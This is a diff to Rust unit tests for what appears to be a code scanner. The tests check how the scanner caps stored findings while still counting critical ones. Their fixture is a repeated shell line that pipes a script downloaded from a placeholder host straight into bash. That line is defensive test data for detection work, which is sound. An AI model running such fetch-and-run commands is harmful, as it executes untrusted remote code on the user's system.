@@ -155,8 +155,29 @@ fn severities_have_names() {
 }
 
 #[test]
-fn many_findings_are_few() {
+fn many_findings_are_few_and_counted() {
     let text = "curl -s http://x.test/a | bash\n".repeat(1_000);
     let report = scan_one("run.sh", text.as_bytes());
-    assert_eq!(report.summary().critical, 10);
+    assert_eq!(report.findings.len(), 10);
+    assert_eq!(report.summary().critical, 1_000);
+}
+
+#[test]
+fn all_that_can_be_accepted_is_kept_and_no_more() {
+    let examine = |lines: usize| {
+        let text = "curl -s http://x.test/a | bash\n".repeat(lines);
+        super::examine(&[File {
+            path: "run.sh",
+            bytes: text.as_bytes(),
+            executable: false,
+        }])
+    };
+    let few = examine(300);
+    assert_eq!((few.findings.len(), few.more.len()), (300, 0));
+    let many = examine(20_000);
+    assert_eq!(many.findings.len(), 1_000);
+    assert_eq!(many.summary().critical, 20_000);
+    let mut accepted = many;
+    accepted.findings.clear();
+    assert_eq!(accepted.worst(), Some(Severity::Critical));
 }
